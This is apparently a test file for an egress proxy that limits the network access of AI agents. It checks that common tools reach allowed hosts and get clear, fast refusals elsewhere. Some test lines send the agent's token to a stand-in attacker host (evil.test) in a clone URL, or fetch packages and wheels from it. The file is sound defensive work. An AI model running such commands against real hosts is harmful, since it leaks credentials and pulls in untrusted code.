import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { until } from '../lab/namespaces';
import { PROXY } from './lab/addresses';
import { AGENTS_OWN, SECRET } from './lab/documents';
import { EgressLab, type Ran } from './lab/egress-lab';
import type { ProxyProcess } from './lab/proxy-process';

/**
 * The programs agents really use, through the proxy: what is allowed works, and what is refused says which host and why,
 * at once and without trying again and again.
 */
const ROOT = join(__dirname, '..', '..', '..');
let lab: EgressLab;
let proxy: ProxyProcess;
let env: Record<string, string>;
beforeAll(async () => {
  lab = await EgressLab.start();
  proxy = await lab.startProxy();
  const ca = join(lab.folder, 'ca.pem');
  const url = `http://${PROXY}:${proxy.port}`;
  env = {
    HTTPS_PROXY: url,
    https_proxy: url,
    HTTP_PROXY: url,
    http_proxy: url,
    SSL_CERT_FILE: ca,
    CURL_CA_BUNDLE: ca,
    NODE_EXTRA_CA_CERTS: ca,
    GIT_SSL_CAINFO: ca,
    GIT_CONFIG_NOSYSTEM: '1',
    GIT_TERMINAL_PROMPT: '0',
    PIP_CERT: ca,
    PIP_CONFIG_FILE: '/dev/null',
    PIP_DISABLE_PIP_VERSION_CHECK: '1',
    npm_config_registry: 'https://anything.npmjs.org/',
    npm_config_cafile: ca,
    npm_config_userconfig: '/dev/null',
    npm_config_globalconfig: join(lab.folder, 'no-npmrc'),
    npm_config_cache: join(lab.folder, 'npm-cache'),
    npm_config_update_notifier: 'false',
    npm_config_audit: 'false',
    npm_config_fund: 'false',
    GH_TOKEN: AGENTS_OWN,
    GH_PROMPT_DISABLED: '1',
    GH_NO_UPDATE_NOTIFIER: '1',
  };
});
afterAll(() => lab?.close());
afterEach(async () => {
  expect(await lab.leaks()).toEqual([]);
  expect(proxy.complaints).toBe('');
});

/** In a folder of its own, so that nothing of one is found by another. */
let folders = 0;
async function run(command: string, args: readonly string[], more: Record<string, string> = {}): Promise<Ran> {
  const cwd = join(lab.folder, `run-${folders++}`);
  await lab.run('mkdir', ['-p', cwd]);
  return lab.run(command, args, { env: { ...env, ...more }, cwd, milliseconds: 60_000 });
}

const node = (script: string, more: Record<string, string> = {}): Promise<Ran> =>
  lab.run(
    process.execPath,
    [
      '-e',
      `(async () => {${script}})().catch((e) => { console.log('FAILED', e.message, e.cause?.message ?? ''); process.exitCode = 1; })`,
    ],
    {
      env: { ...env, ...more },
      cwd: ROOT,
    },
  );

function expectWorks(ran: Ran, text: string): void {
  expect(ran.output).toContain(text);
  expect(ran.status).toBe(0);
}

interface Refused {
  readonly ran: () => Promise<Ran>;
  readonly host: string;
  /** What its user sees. */
  readonly shows: readonly string[];
}

/** Fails, says so in words, soon, and after few attempts. */
async function expectRefused({ ran, host, shows }: Refused): Promise<void> {
  const before = proxy.requests().length;
  const result = await ran();
  expect(result.status).not.toBe(0);
  for (const text of shows) expect(result.output).toContain(text);
  expect(result.milliseconds).toBeLessThan(10_000);
  const attempts = (): number =>
    proxy
      .requests()
      .slice(before)
      .filter(({ detail }) => detail.host === host && detail.verdict === 'deny').length;
  // The record is in the pipe by now, and soon in the file.
  await until('record', () => attempts() > 0);
  expect(attempts()).toBeLessThanOrEqual(3);
}

describe('curl', () => {
  const curl = (...args: string[]): Promise<Ran> => run('curl', ['-sS', '--max-time', '20', ...args]);

  it('N9 gets what is allowed, and posts', async () => {
    expectWorks(await curl('https://up.test/x'), '"url":"/x"');
    expectWorks(await curl('-d', 'hello', 'https://up.test/x'), '"body":"hello"');
    expectWorks(await curl('--compressed', 'https://api.test/reflect/gzip'), 'before');
    expectWorks(await curl('http://plain.test/x'), '"url":"/x"');
    expectWorks(await curl(`http://${PROXY}:${proxy.port}/u/up.test/x`, '--noproxy', '*'), '"url":"/x"');
  });

  it('N9 waits for leave to send a large body, and sends it', async () => {
    const ran = await curl('-H', 'Expect: 100-continue', '--data-binary', '@/proc/self/exe', 'https://up.test/upload');
    expect(ran.output).toMatch(/^\d{5,} [0-9a-f]{64}$/);
  });

  it('N8 shows host and reason of a refusal', () =>
    expectRefused({
      ran: () => curl('--fail-with-body', 'https://evil.test/x'),
      host: 'evil.test',
      shows: ['host-not-allowed', 'evil.test', 'what to do'],
    }));

  it('N8 shows them in the status line too, where the body is not shown', () =>
    expectRefused({
      ran: () => curl('--fail', '-v', 'https://paths.test/v2/x'),
      host: 'paths.test',
      shows: ['refused no-rule (host paths.test'],
    }));

  it('N8 does not try again even when told to', () =>
    expectRefused({
      ran: () => curl('--retry', '5', '--fail-with-body', 'https://evil.test/x'),
      host: 'evil.test',
      shows: ['host-not-allowed'],
    }));
});

describe('git', () => {
  const git = (...args: string[]): Promise<Ran> => run('git', args);

  it('N9 clones and fetches', async () => {
    const clone = join(lab.folder, 'clone');
    expectWorks(await git('clone', 'https://github.com/lab/repository', clone), 'Cloning');
    expect(readFileSync(join(clone, 'README'), 'utf8')).toBe('from the lab\n');
    expectWorks(await git('-C', clone, 'fetch', '-v'), 'up to date');
    expectWorks(await git('-C', clone, 'ls-remote'), 'refs/heads/main');
  });

  it('N8 is told why it can not push', () =>
    expectRefused({
      ran: () => git('-C', join(lab.folder, 'clone'), 'push', 'origin', 'HEAD:refs/heads/evil'),
      host: 'github.com',
      shows: ['403', 'no-rule', 'github.com'],
    }));

  it('N8 is told why it can not clone from elsewhere, and its credentials stay', () =>
    expectRefused({
      ran: () => git('clone', `https://user:${AGENTS_OWN}@evil.test/lab/repository`),
      host: 'evil.test',
      shows: ['403', 'host-not-allowed', 'evil.test'],
    }));
});

describe('npm', () => {
  const npm = (...args: string[]): Promise<Ran> => run('npm', args);

  it('N9 installs, scoped packages too', async () => {
    expectWorks(await npm('install', 'lab-package', '@lab/scoped'), 'added 2 packages');
  });

  it('N8 is told why a registry is closed', () =>
    expectRefused({
      ran: () => npm('install', 'lab-package', '--registry', 'https://evil.test/'),
      host: 'evil.test',
      shows: ['host-not-allowed', 'evil.test'],
    }));

  it('N8 is told why a tarball from elsewhere is closed', () =>
    expectRefused({
      ran: () => npm('install', 'https://evil.test/package.tgz'),
      host: 'evil.test',
      shows: ['403', 'evil.test'],
    }));

  it('N8 can not publish', async () => {
    const token = `--//anything.npmjs.org/:_authToken=${AGENTS_OWN}`;
    await expectRefused({
      ran: () => npm('publish', join(lab.folder, 'npm', 'lab-fresh.tgz'), token),
      host: 'anything.npmjs.org',
      shows: ['no-rule'],
    });
  });
});

describe('pip', () => {
  const pip = (...args: string[]): Promise<Ran> =>
    run('python3', [
      '-m',
      'pip',
      '--isolated',
      'download',
      '--no-cache-dir',
      '--no-deps',
      '--cert',
      env.PIP_CERT ?? '',
      '--proxy',
      env.HTTPS_PROXY ?? '',
      ...args,
    ]);

  it('N9 downloads from the index and from the host of its files', async () => {
    expectWorks(
      await pip('lab-package', '--index-url', 'https://anything.pypi.org/simple'),
      'Successfully downloaded lab-package',
    );
    const hosts = proxy.requests().map(({ detail }) => detail.host);
    expect(hosts).toEqual(expect.arrayContaining(['anything.pypi.org', 'anything.pythonhosted.org']));
  });

  it('N8 is told why an index is closed', () =>
    expectRefused({
      ran: () => pip('lab-package', '--index-url', 'https://evil.test/simple'),
      host: 'evil.test',
      shows: ['evil.test'],
    }));

  it('N8 is told why a file from elsewhere is closed', () =>
    expectRefused({
      ran: () => pip('https://evil.test/lab_package-1.0-py3-none-any.whl'),
      host: 'evil.test',
      shows: ['403', 'host-not-allowed', 'evil.test'],
    }));
});

describe("Node's fetch", () => {
  const SHOW = `const r = await f(process.env.ASKED); console.log(r.status, r.statusText, await r.text()); if (!r.ok) process.exitCode = 1;`;
  const WAYS: Record<string, { script: string; env?: Record<string, string> }> = {
    "undici's EnvHttpProxyAgent": {
      script: `const { fetch: g, EnvHttpProxyAgent } = require('undici'); const dispatcher = new EnvHttpProxyAgent(); const f = (u) => g(u, { dispatcher }); ${SHOW}`,
    },
    "undici's ProxyAgent": {
      script: `const { fetch: g, ProxyAgent } = require('undici'); const dispatcher = new ProxyAgent(process.env.HTTPS_PROXY); const f = (u) => g(u, { dispatcher }); ${SHOW}`,
    },
    NODE_USE_ENV_PROXY: { script: `const f = fetch; ${SHOW}`, env: { NODE_USE_ENV_PROXY: '1' } },
  };

  it.each(Object.keys(WAYS))('N9 works, and is told why it does not, with %s', async (name) => {
    const { script = '', env: more = {} } = WAYS[name] ?? {};
    expectWorks(await node(script, { ...more, ASKED: 'https://up.test/x' }), '"url":"/x"');
    await expectRefused({
      ran: () => node(script, { ...more, ASKED: 'https://evil.test/x' }),
      host: 'evil.test',
      shows: ['403', 'host-not-allowed', 'evil.test'],
    });
  });

  it('N9 does without any proxy setting where the proxy is its base URL', async () => {
    expectWorks(
      await node(`const f = fetch; ${SHOW}`, { ASKED: `http://${PROXY}:${proxy.port}/u/api.test/reflect/body` }),
      'you sent',
    );
  });
});

describe('WebSocket', () => {
  const script = (url: string): string => `
    const { WebSocket, EnvHttpProxyAgent } = require('undici');
    const ws = new WebSocket('${url}', { dispatcher: new EnvHttpProxyAgent() });
    await new Promise((done) => {
      ws.onopen = () => ws.send('hello');
      ws.onmessage = ({ data }) => { console.log('got', data); ws.close(); };
      ws.onclose = done;
      ws.onerror = (e) => { console.log('FAILED', e.error?.message ?? e.message); process.exitCode = 1; done(); };
    });`;

  it('N9 is relayed where the rule allows it', async () => {
    expectWorks(await node(script('wss://up.test/ws')), 'got hello');
  });

  it('N9 what is sent back of a credential is masked', async () => {
    const ran = await node(script('wss://api.test/ws/reflect'));
    expectWorks(ran, 'got you sent');
    expect(ran.output).not.toContain(SECRET);
  });

  it('N8 is refused where the rule does not', () =>
    expectRefused({ ran: () => node(script('wss://other.test/ws')), host: 'other.test', shows: ['FAILED'] }));
});

describe('openssl', () => {
  const openssl = (host: string, port = 443): Promise<Ran> =>
    run('sh', [
      '-c',
      `(printf 'GET /x HTTP/1.1\\r\\nHost: ${host}\\r\\nConnection: close\\r\\n\\r\\n'; sleep 1) | openssl s_client -quiet -verify_return_error -CAfile "$SSL_CERT_FILE" -verify_hostname ${host} -proxy ${PROXY}:${proxy.port} -connect ${host}:${port} -servername ${host} 2>&1`,
    ]);

  it('N9 verifies the certificate made for the host', async () => {
    const ran = await openssl('up.test');
    expect(ran.output).toContain('HTTP/1.1 200');
    expect(ran.output).toContain('"url":"/x"');
  });

  it('N8 reads the refusal inside of TLS', async () => {
    const ran = await openssl('evil.test');
    expect(ran.output).toContain('HTTP/1.1 403 refused host-not-allowed (host evil.test)');
  });

  it('N8 reads the refusal of another port in the answer to CONNECT', async () => {
    const ran = await openssl('up.test', 8443);
    expect([ran.status, ran.output]).toEqual([1, expect.stringContaining('403')]);
  });
});

describe('gh', () => {
  it('N9 [23] asks the API with no token of its own', async () => {
    expectWorks(await run('gh', ['api', 'repos/lab/repository']), 'lab/repository');
    const { requests } = await lab.seen();
    const asked = requests.findLast(({ serverName }) => serverName === 'api.github.com');
    expect(asked?.headers.map((each) => each.toLowerCase())).not.toContain('authorization');
  });

  it('N8 is told why another path is closed', () =>
    expectRefused({
      ran: () => run('gh', ['api', 'user']),
      host: 'api.github.com',
      shows: ['no-rule', 'api.github.com'],
    }));
});
